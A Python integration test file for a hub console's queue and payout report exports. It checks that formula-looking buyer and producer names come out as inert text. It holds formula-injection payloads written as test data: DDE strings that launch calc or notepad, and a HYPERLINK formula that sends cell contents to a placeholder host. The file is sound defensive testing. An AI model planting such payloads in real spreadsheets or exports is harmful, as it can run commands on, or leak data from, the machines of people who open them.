"""Attack: formulas planted in names reach the centre's spreadsheets.

Buyer names come from any partner and producers' names from the counter; `=HYPERLINK(...)` or
`=cmd|' /C calc'!A0` used to become live formulas in the queue and payouts XLSX, and raw `=`,
`+`, `-`, `@`, TAB and CR cells in CSV. Every export cell is now inert: text starting like a
formula starts with `'` and, in XLSX, is typed as text; numbers stay numbers.
"""

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from services.console import reports
from services.console.accounts import Role
from tests.integration.test_console_reports import download, wait_allocated
from tools.client import HubClient, wait_until

# No link in them: names that look like links may be refused at the edge, which is not what is
# tested here (the pure test below has one).
HOSTILE = [
    '=HYPERLINK(A1&B1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@(SUM(1+1))*cmd|' /C calc'!A0",  # `@` before a letter would read as a handle
]
# Names a partner could not send (control characters are refused at the edge), but a report
# must not trust that.
CONTROL_LED = ["\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Klik")']


async def queued_hostile_buyers(client: HubClient, hub: str) -> None:
    for name in HOSTILE:
        await client.place_order(
            hub, "masker-kain", 3, {"name": name, "type": "individual", "region": "Sampit"}
        )

    async def queued() -> bool:
        return (await client.queue(hub, "masker-kain"))["waiting"] == len(HOSTILE)

    await wait_until(queued, what="the hostile buyers queued")


async def test_buyer_names_are_text_in_the_queue_xlsx(console_as, client: HubClient, hub):
    await queued_hostile_buyers(client, hub)
    session = await console_as(Role.viewer)
    body, _ = await download(session, "/laporan/antrean?produk=masker-kain&format=xlsx")
    sheet = load_workbook(io.BytesIO(body))["Antrean"]
    rows = list(sheet.iter_rows(min_row=2))
    names = [row[1] for row in rows]
    assert [cell.value for cell in names] == ["'" + name for name in HOSTILE]
    assert all(cell.data_type == "s" for cell in names)
    # Nothing in the whole sheet is a formula, and the quantities are still numbers.
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert all(row[6].data_type == "n" and row[6].value == 3 for row in rows)


async def test_buyer_names_are_text_in_the_queue_csv(console_as, client: HubClient, hub):
    await queued_hostile_buyers(client, hub)
    session = await console_as(Role.viewer)
    body, _ = await download(session, "/laporan/antrean?produk=masker-kain&format=csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]
    assert [row[1] for row in rows] == ["'" + name for name in HOSTILE]
    assert all(row[6] == "3" for row in rows)


async def test_producer_names_are_text_in_the_payouts(console_as, client: HubClient, hub):
    producer = await client.register_producer(
        hub, name=HOSTILE[0], phone="081200000091", regency="=Kapuas"
    )
    order = await client.place_order(
        hub, "masker-kain", 5, {"name": HOSTILE[1], "type": "agency", "region": "Kapuas"}
    )
    await client.record_delivery(hub, producer["id"], "masker-kain", 5)
    await wait_allocated(client, order["id"], 5)
    session = await console_as(Role.viewer)
    # A day either side: the hub's date is not the machine's for hours each day (UTC+7..+9).
    today = reports.datetime.now().date()
    span = f"dari={today - timedelta(days=1)}&sampai={today + timedelta(days=1)}"
    body, _ = await download(session, f"/laporan/pembayaran?{span}&format=xlsx")
    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            assert not any(cell.data_type == "f" for cell in row)
    payout = next(book["Pembayaran"].iter_rows(min_row=2))
    assert payout[1].value == "'" + HOSTILE[0] and payout[3].value == "'=Kapuas"
    assert payout[5].value == 5 and payout[7].value == 5 * 5000  # numbers stay numbers

    text, _ = await download(session, f"/laporan/pembayaran?{span}&format=csv")
    row = next(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    assert row["Produsen"] == "'" + HOSTILE[0] and row["Kabupaten"] == "'=Kapuas"


@pytest.mark.parametrize("name", HOSTILE + CONTROL_LED)
def test_every_export_writes_a_hostile_name_as_inert_text(name):
    """The same through the report functions the CLI uses too, for names no API lets in."""
    report = reports.queue_report(
        [{"position": 1, "order_id": "o1", "quantity": -1, "allocated": 0, "forfeited": 0}],
        {"o1": {"buyer": {"name": name, "region": "+62 Sampit", "phone": "+6281234567890"}}},
        "Asia/Jakarta",
    )
    row = next(load_workbook(io.BytesIO(reports.xlsx(report, "id"))).active.iter_rows(min_row=2))
    assert row[1].value == "'" + name and row[1].data_type == "s"
    assert row[3].value == "'+62 Sampit"
    assert row[4].value == "+6281234567890"  # a plain number as text runs nothing: left alone
    assert row[6].value == -1 and row[6].data_type == "n"
    line = list(csv.reader(io.StringIO(reports.csv_text(report, "id"))))[1]
    assert line[1] == "'" + name and line[4] == "+6281234567890" and line[6] == "-1"
